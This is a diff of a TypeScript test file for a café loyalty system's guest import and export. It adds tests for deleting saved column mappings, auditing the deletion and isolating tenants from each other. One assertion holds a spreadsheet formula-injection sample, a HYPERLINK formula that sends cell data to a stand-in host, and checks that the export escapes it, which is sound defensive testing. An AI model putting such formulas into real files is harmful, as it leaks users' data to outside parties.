@@ -1,13 +1,24 @@
 import { eq, sql } from "drizzle-orm";
 import { describe, expect, it } from "vitest";
 import { withTenant } from "@/db/client";
-import { guestConsents, guestImportBatches, guests, ledgerEntries, users } from "@/db/schema";
+import { auditLog, guestConsents, guestImportBatches, guests, ledgerEntries, users } from "@/db/schema";
 import { testDatabase } from "@/db/testing/database";
-import type { AppError } from "../../errors";
+import { AppError } from "../../errors";
 import { lockGuest, postPoints } from "../../loyalty/ledger";
 import { createTenant } from "../../tenants/create";
 import { exportGuestsCsv } from "../export";
-import { applyBatch, createBatch, getBatch, prepareApply, readIntoBatch, undoBatch } from "./batches";
+import {
+  applyBatch,
+  batchView,
+  createBatch,
+  getBatch,
+  listMappings,
+  prepareApply,
+  prepareCheck,
+  readIntoBatch,
+  undoBatch,
+} from "./batches";
+import { deleteMapping } from "./mappings";
 import type { Report } from "./plan";
 import { guessPreset, PRESET_IDS, type PresetId } from "./presets";
 import { importGuestFile } from "./run";
@@ -230,7 +241,7 @@ describe("applying", () => {
       .values({ email: `owner-${tenantId}@import.test` })
       .returning();
     const csv = await inCafe(tenantId, (tx) =>
-      exportGuestsCsv(tx, { tenantId, actorUserId: owner?.id ?? "", ip: null }),
+      exportGuestsCsv(tx, { tenantId, actorUserId: owner?.id ?? "", ip: null, withContacts: true }),
     );
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Гость"")"`);
     expect(csv).not.toMatch(/(^|,)"=/m);
@@ -394,5 +405,63 @@ describe("failures leave nothing half-applied", () => {
              (select count(*)::int from guest_consents where tenant_id = ${tenantId}) as consents`);
     expect(counts).toEqual({ ledger: 0, consents: 0 });
     expect((await inCafe(tenantId, (tx) => getBatch(tx, checked.batch.id))).status).toBe("checked");
+  });
+});
+
+describe("saved mappings", () => {
+  const STAFF = { kind: "staff" as const, userId: null, ip: "203.0.113.9" };
+  async function savedMapping(tenantId: string, name: string) {
+    const checked = await run(tenantId, presetCsv("generic", [sampleGuest(1)]), { apply: false });
+    const batchId = checked.batch.id;
+    await inCafe(tenantId, async (tx) => {
+      const batch = await getBatch(tx, batchId);
+      await prepareCheck(tx, tenantId, {
+        batchId,
+        preset: "generic",
+        mapping: batch.mapping ?? {},
+        balanceMode: "set",
+        tierMode: "carry",
+        saveAs: name,
+      });
+    });
+    const [mapping] = await inCafe(tenantId, (tx) => listMappings(tx));
+    if (!mapping) throw new Error("not saved");
+    return { batchId, mapping };
+  }
+  const reasonOf = async (promise: Promise<unknown>) =>
+    promise.then(
+      () => "done",
+      (error: unknown) => (error instanceof AppError ? error.reason : String(error)),
+    );
+
+  it("a saved mapping can be deleted: no longer offered, audited, and the import that used it keeps its copy", async () => {
+    const tenantId = await cafe();
+    const { batchId, mapping } = await savedMapping(tenantId, "Старая система");
+    const offered = await inCafe(tenantId, (tx) => batchView(tx, batchId));
+    expect(offered.saved.map((saved) => saved.name)).toEqual(["Старая система"]);
+
+    const deleted = await inCafe(tenantId, (tx) => deleteMapping(tx, tenantId, mapping.id, STAFF));
+    expect(deleted.name).toBe("Старая система");
+    const after = await inCafe(tenantId, (tx) => batchView(tx, batchId));
+    expect(after.saved).toEqual([]);
+    expect(after.mapping).toEqual(offered.mapping);
+    const entries = await inCafe(tenantId, (tx) =>
+      tx.select().from(auditLog).where(eq(auditLog.action, "guests.import_mapping_deleted")),
+    );
+    expect(entries.map((entry) => [entry.targetId, entry.ip, (entry.meta as { name: string }).name])).toEqual([
+      [mapping.id, "203.0.113.9", "Старая система"],
+    ]);
+    // Twice: the second finds nothing (and writes no second audit entry).
+    expect(await reasonOf(inCafe(tenantId, (tx) => deleteMapping(tx, tenantId, mapping.id, STAFF)))).toBe(
+      "mapping_not_found",
+    );
+  });
+
+  it("another café's saved mapping is not found, and stays", async () => {
+    const ours = await cafe();
+    const theirs = await cafe();
+    const { mapping } = await savedMapping(theirs, "Их выгрузка");
+    expect(await reasonOf(inCafe(ours, (tx) => deleteMapping(tx, ours, mapping.id, STAFF)))).toBe("mapping_not_found");
+    expect((await inCafe(theirs, (tx) => listMappings(tx))).map((saved) => saved.name)).toEqual(["Их выгрузка"]);
   });
 });
